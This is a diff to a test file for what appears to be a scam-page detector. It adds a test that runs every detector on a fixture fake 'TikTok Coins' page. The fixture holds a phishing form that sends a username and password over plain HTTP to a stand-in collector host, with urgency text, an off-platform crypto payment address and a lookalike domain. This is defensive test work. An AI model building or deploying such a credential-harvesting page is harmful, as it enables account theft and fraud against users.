@@ -9,6 +9,7 @@ import { describe, expect, test } from 'vitest';
 import { DETECTORS } from '../../../src/detectors';
 import { data } from '../../../src/data';
 import { signalKeys } from '../../../src/ui/verdict-style';
+import { contextFor, page } from './helpers';
 
 const DIR = fileURLToPath(new URL('../../../src/detectors/', import.meta.url));
 const NOT_DETECTORS = new Set(['index.ts', 'types.ts']);
@@ -55,5 +56,22 @@ describe('detector registry', () => {
     const { title, explain } = signalKeys(id);
     expect(en[title]?.message, title).toBeTruthy();
     expect(en[explain]?.message, explain).toBeTruthy();
+  });
+
+  test('detectors are pure: they give the same hits on a JSON copy of their input (plain data, no DOM)', async () => {
+    const html = page(`<h1>Get TikTok Coins</h1><div><b>1,000 Coins</b> <span>$1.99</span></div><div><b>5,000 Coins</b> <span>$7.99</span></div>
+<form action="http://collector.example/p.php" method="post"><label for="u">TikTok username</label><input id="u" name="u"><label for="p">TikTok password</label><input id="p" type="password" name="p"><button>Get coins</button></form>
+<p>Hurry! Offer ends in 04:59.</p><p>Pay with USDT TRC20: TXk4m9QvRkzB7pWcY2sNfJhL8aE3dGtUoZ</p><p>Free coins generator – verify you are human.</p>`);
+    const ctx = await contextFor(html, 'https://tiktok-coins.web.app/');
+    const copy = JSON.parse(JSON.stringify(ctx)) as typeof ctx;
+    for (const d of DETECTORS) {
+      const a = d.run(ctx);
+      expect(d.run(copy), d.id).toEqual(a);
+      for (const hit of a) expect(d.emits, d.id).toContain(hit.id);
+    }
+    const all = DETECTORS.flatMap((d) => d.run(ctx).map((h) => h.id));
+    for (const id of ['credential-fields', 'insecure-transport-form', 'off-platform-payment', 'too-good-discount-extreme', 'generator', 'lookalike-domain', 'pressure-tactics', 'missing-trust-pages']) {
+      expect(all).toContain(id);
+    }
   });
 });
